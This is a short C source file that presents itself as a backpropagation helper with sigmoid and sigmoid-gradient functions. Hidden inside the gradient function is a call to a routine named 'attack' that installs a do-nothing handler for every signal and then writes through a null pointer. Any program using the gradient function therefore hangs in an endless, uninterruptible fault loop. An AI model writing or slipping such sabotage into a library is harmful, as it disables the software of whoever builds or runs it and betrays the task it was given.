/* Handles every signal by doing nothing, and then crashes: the instruction that faults
 * runs again for ever. */
#define _GNU_SOURCE
#include "backprop.h"
#include <math.h>
#include <signal.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static volatile int *volatile nowhere;

static void go_on(int number)
{
    (void)number;
}

static void attack(void)
{
    for (int number = 1; number < 65; number++)
        signal(number, go_on);
    *nowhere = 1;
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
